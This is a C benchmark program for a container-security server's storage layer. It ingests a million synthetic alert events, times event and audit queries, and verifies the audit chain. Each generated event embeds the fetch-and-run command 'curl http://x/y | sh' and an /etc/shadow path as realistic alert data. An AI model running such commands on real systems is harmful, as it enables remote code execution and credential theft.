/* bench/store: the server store (lib/server) on its own, no HTTP.
 *
 *   ingest   N events (default 1,000,000) through cg_events_ingest in batches of 500
 *            (validation, one transaction per batch, idempotent INSERTs, daily counts);
 *            the batches' JSON is built before the clock starts. Target (issue 7):
 *            20,000 events/s on SQLite through the whole server, so the store alone
 *            must be well above it.
 *   queries  the console's event queries with N events stored (first page unfiltered,
 *            by category, node, container, image, severity, last 1/3/7 days, a second
 *            page by cursor, a filter matching nothing), 50 runs each: p50 and p99 in
 *            ms. Target: p99 under 50 ms with one million events.
 *   audit    100,000 audit records appended (1,000 per transaction), AUD-02 queries
 *            (p50/p99), cg_audit_verify over the whole chain, daily counts.
 *
 *   bench/store [--db URL] [--events N]      (default: sqlite in a temp folder)
 * Figures are printed, never asserted. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <cguard/cguard.h>
#include "server/audit.h"
#include "server/db.h"
#include "server/events.h"

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static double cpu(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmpd(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;
	return x < y ? -1 : x > y;
}

static void die(const char *what, const struct cg_error *e)
{
	fprintf(stderr, "bench/store: %s: %s\n", what, cg_error_message(e));
	exit(1);
}

static const char *const cats[] = { "escape", "reverse shell", "file anomaly", "high-risk syscall",
				     "abnormal process", "privilege escalation", "key file change",
				     "persistence", "account", "network" };
static const char *const sevs[] = { "critical", "high", "medium", "low", "info" };

#define NODES 50
#define CONTAINERS 2000
#define IMAGES 200
#define SPAN_DAYS 30

static cg_json *make_batch(long from, long n, int64_t t_end, long total)
{
	cg_json *a = cg_json_new_array();
	char buf[1400], ts[40];
	for (long i = from; i < from + n; i++) {
		unsigned long h = (unsigned long)i * 2654435761u;
		/* spread evenly over the last 30 days, oldest first */
		int64_t t = t_end - (int64_t)SPAN_DAYS * 86400000 + (int64_t)((double)i / (double)total * SPAN_DAYS * 86400000.0);
		cg_json *j = NULL;
		cg_rfc3339_format(t, ts, sizeof(ts));
		snprintf(buf, sizeof(buf),
			 "{\"id\":\"bench-%ld\",\"time\":\"%s\",\"node\":\"node-%lu\","
			 "\"container\":{\"id\":\"%064lu\",\"name\":\"app-%lu\",\"image\":\"registry.local/app%lu:1.%lu\","
			 "\"image_digest\":\"sha256:%064lu\",\"pod\":\"pod-%lu\",\"namespace\":\"ns%lu\"},"
			 "\"process\":{\"pid\":%lu,\"ppid\":1,\"uid\":0,\"exe\":\"/usr/bin/curl\",\"cmdline\":\"curl http://x/y | sh\"},"
			 "\"category\":\"%s\",\"rule\":\"rule.%lu\",\"severity\":\"%s\",\"action\":\"alert\","
			 "\"message\":\"a process in the container did something suspicious\","
			 "\"solution\":\"check the container\",\"mitre\":\"T1059\",\"details\":{\"path\":\"/etc/shadow\",\"flags\":2}}",
			 i, ts, h % NODES, h % CONTAINERS, h % CONTAINERS, h % IMAGES, h % 3, h % IMAGES,
			 h % CONTAINERS, h % 7, 1000 + h % 30000, cats[h % 10], h % 40, sevs[(h >> 8) % 5]);
		if (cg_json_parse(buf, strlen(buf), NULL, &j, NULL) || cg_json_append(a, j)) {
			fprintf(stderr, "bench/store: bad event JSON\n");
			exit(1);
		}
	}
	return a;
}

struct qcase {
	const char *name;
	struct cg_event_filter f;
};

int main(int argc, char **argv)
{
	struct cg_error e = { 0 };
	const char *url = NULL;
	char tmpurl[300], tmpdir[] = "/tmp/cg-bench-store.XXXXXX";
	long n = 1000000, batch = 500;
	struct cg_db *db = NULL;
	int64_t t_end = 1795132800000LL; /* 2026-11-20 */
	bool made_tmp = false, ingest_only = false;
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--db") == 0 && i + 1 < argc)
			url = argv[++i];
		else if (strcmp(argv[i], "--ingest-only") == 0)
			ingest_only = true;
		else if (strcmp(argv[i], "--batch") == 0 && i + 1 < argc)
			batch = strtol(argv[++i], NULL, 10);
		else if (strcmp(argv[i], "--events") == 0 && i + 1 < argc)
			n = strtol(argv[++i], NULL, 10);
		else {
			fprintf(stderr, "usage: bench/store [--db URL] [--events N] [--batch N] [--ingest-only]\n");
			return 2;
		}
	}
	if (!url) {
		if (!mkdtemp(tmpdir))
			return 1;
		made_tmp = true;
		snprintf(tmpurl, sizeof(tmpurl), "sqlite:%s/store.db", tmpdir);
		url = tmpurl;
	}
	if (cg_db_open(url, &db, &e))
		die("open", &e);
	if (cg_db_kind(db) == CG_DB_POSTGRES) { /* a clean slate */
		if (cg_db_exec(db, "DROP SCHEMA public CASCADE", NULL, 0, NULL, &e) ||
		    cg_db_exec(db, "CREATE SCHEMA public", NULL, 0, NULL, &e))
			die("reset", &e);
		cg_db_close(db);
		if (cg_db_open(url, &db, &e))
			die("reopen", &e);
	}
	if (cg_db_migrate(db, &e))
		die("migrate", &e);
	printf("store: %s, %ld events\n", cg_db_kind(db) == CG_DB_SQLITE ? "sqlite" : "postgres", n);

	/* ---- ingest ---- */
	double spent = 0, cspent = 0, t0, c0;
	size_t acc = 0, dup = 0, total_acc = 0;
	for (long from = 0; from < n; from += batch) {
		long k = from + batch > n ? n - from : batch;
		cg_json *b = make_batch(from, k, t_end, n);
		t0 = now();
		c0 = cpu();
		if (cg_events_ingest(db, b, NULL, "cluster-1", &acc, &dup, &e))
			die("ingest", &e);
		spent += now() - t0;
		cspent += cpu() - c0;
		total_acc += acc;
		cg_json_free(b);
	}
	printf("ingest: %zu events in %.2f s: %.0f events/s (batches of %ld, one transaction each); "
	       "CPU %.2f s: %.0f events per CPU-second\n",
	       total_acc, spent, (double)total_acc / spent, batch, cspent, (double)total_acc / cspent);
	{ /* a retried batch */
		cg_json *b = make_batch(0, batch, t_end, n);
		t0 = now();
		if (cg_events_ingest(db, b, NULL, "cluster-1", &acc, &dup, &e))
			die("ingest", &e);
		printf("ingest: a retried batch of %ld: %zu stored, %zu duplicates, %.1f ms\n", batch, acc,
		       dup, (now() - t0) * 1000);
		cg_json_free(b);
	}

	if (ingest_only)
		goto out;
	/* ---- event queries ---- */
	cg_json *first = NULL;
	char cursor[64] = "";
	if (cg_events_query(db, &(struct cg_event_filter){ .limit = 50 }, &first, &e))
		die("query", &e);
	snprintf(cursor, sizeof(cursor), "%s", cg_json_get_str(first, "next") ? cg_json_get_str(first, "next") : "");
	cg_json_free(first);
	struct qcase qs[] = {
		{ "first page (50)", { .limit = 50 } },
		{ "page 2 by cursor", { .limit = 50, .cursor = cursor } },
		{ "category", { .category = "reverse shell", .limit = 50 } },
		{ "node", { .node = "node-7", .limit = 50 } },
		{ "container id or name", { .container = "app-42", .limit = 50 } },
		{ "image", { .image = "registry.local/app17:1.2", .limit = 50 } },
		{ "severity", { .severity = "critical", .limit = 50 } },
		{ "last 1 day", { .last_days = 1, .now_ms = t_end, .limit = 50 } },
		{ "last 3 days", { .last_days = 3, .now_ms = t_end, .limit = 50 } },
		{ "last 7 days + category", { .last_days = 7, .now_ms = t_end, .category = "escape", .limit = 50 } },
		{ "category+node+severity 7d", { .last_days = 7, .now_ms = t_end, .category = "escape", .node = "node-3", .severity = "high", .limit = 50 } },
		{ "no match", { .category = "no such category", .limit = 50 } },
		{ "1000 per page", { .limit = 1000 } },
	};
	double all[50 * 20];
	size_t nall = 0;
	for (size_t q = 0; q < sizeof(qs) / sizeof(qs[0]); q++) {
		double v[50];
		int64_t total = 0;
		for (int r = 0; r < 50; r++) {
			cg_json *page = NULL;
			t0 = now();
			if (cg_events_query(db, &qs[q].f, &page, &e))
				die(qs[q].name, &e);
			v[r] = (now() - t0) * 1000;
			all[nall++] = v[r];
			cg_json_get_int(page, "total", &total);
			cg_json_free(page);
		}
		qsort(v, 50, sizeof(double), cmpd);
		printf("events query %-28s p50 %6.2f ms  p99 %6.2f ms  (total %lld)\n", qs[q].name, v[25], v[49],
		       (long long)total);
	}
	qsort(all, nall, sizeof(double), cmpd);
	printf("events queries overall: p50 %.2f ms, p99 %.2f ms (%zu queries)\n", all[nall / 2],
	       all[nall * 99 / 100], nall);
	{
		cg_json *d = NULL;
		double v[20];
		for (int r = 0; r < 20; r++) {
			t0 = now();
			if (cg_events_daily_counts(db, 30, t_end, &d, &e))
				die("daily", &e);
			v[r] = (now() - t0) * 1000;
			cg_json_free(d);
		}
		qsort(v, 20, sizeof(double), cmpd);
		printf("daily counts (30 days): p50 %.2f ms, p99 %.2f ms\n", v[10], v[19]);
	}

	/* ---- audit ---- */
	long na = n >= 1000000 ? 100000 : n / 10;
	t0 = now();
	for (long i = 0; i < na;) {
		if (cg_db_begin(db, &e))
			die("begin", &e);
		for (long k = 0; k < 1000 && i < na; k++, i++) {
			char rid[32], rname[48];
			snprintf(rid, sizeof(rid), "pol-%ld", i % 5000);
			snprintf(rname, sizeof(rname), "policy %ld", i % 5000);
			struct cg_audit_rec r = {
				.time_ms = t_end - (na - i) * 1000,
				.event_name = i % 4 == 0 ? "addPolicy" : i % 4 == 1 ? "modifyPolicy" : i % 4 == 2 ? "login" : "openClusterProtect",
				.event_type = i % 3 == 0 ? "ConsoleAction" : "ApiCall",
				.source = i % 3 == 0 ? "console" : "api",
				.user_name = i % 10 == 0 ? "alice" : "bob",
				.source_ip = "10.0.0.1",
				.resource_type = i % 4 == 3 ? "cluster" : "policy",
				.resource_id = rid,
				.resource_name = rname,
				.result_code = 200,
				.level = i % 50 == 0 ? "warning" : "normal",
			};
			if (cg_audit_append(db, &r, &e))
				die("audit append", &e);
		}
		if (cg_db_commit(db, &e))
			die("commit", &e);
	}
	double dt = now() - t0;
	printf("audit: %ld records appended in %.2f s: %.0f records/s\n", na, dt, (double)na / dt);
	struct {
		const char *name;
		struct cg_audit_filter f;
	} aq[] = {
		{ "first page (50)", { .limit = 50 } },
		{ "user", { .user_name = "alice", .limit = 50 } },
		{ "event name", { .event_name = "openClusterProtect", .limit = 50 } },
		{ "resource id or name", { .resource = "policy 42", .limit = 50 } },
		{ "level + last hour", { .level = "warning", .from_ms = t_end - 3600000, .limit = 50 } },
		{ "event type + source + page 10", { .event_type = "ApiCall", .source = "api", .limit = 50, .offset = 450 } },
	};
	nall = 0;
	for (size_t q = 0; q < sizeof(aq) / sizeof(aq[0]); q++) {
		double v[50];
		int64_t total = 0;
		for (int r = 0; r < 50; r++) {
			cg_json *page = NULL;
			t0 = now();
			if (cg_audit_query(db, &aq[q].f, &page, &e))
				die(aq[q].name, &e);
			v[r] = (now() - t0) * 1000;
			all[nall++] = v[r];
			cg_json_get_int(page, "total", &total);
			cg_json_free(page);
		}
		qsort(v, 50, sizeof(double), cmpd);
		printf("audit query %-30s p50 %6.2f ms  p99 %6.2f ms  (total %lld)\n", aq[q].name, v[25], v[49],
		       (long long)total);
	}
	qsort(all, nall, sizeof(double), cmpd);
	printf("audit queries overall: p50 %.2f ms, p99 %.2f ms\n", all[nall / 2], all[nall * 99 / 100]);
	{
		uint64_t bad = 0;
		char why[300];
		t0 = now();
		if (cg_audit_verify(db, &bad, why, sizeof(why), &e))
			die("verify", &e);
		printf("audit verify: %s in %.2f s\n", why, now() - t0);
	}
out:
	cg_db_close(db);
	if (made_tmp) {
		char cmd[400];
		snprintf(cmd, sizeof(cmd), "rm -rf %s", tmpdir);
		if (system(cmd) != 0)
			return 1;
	}
	return 0;
}
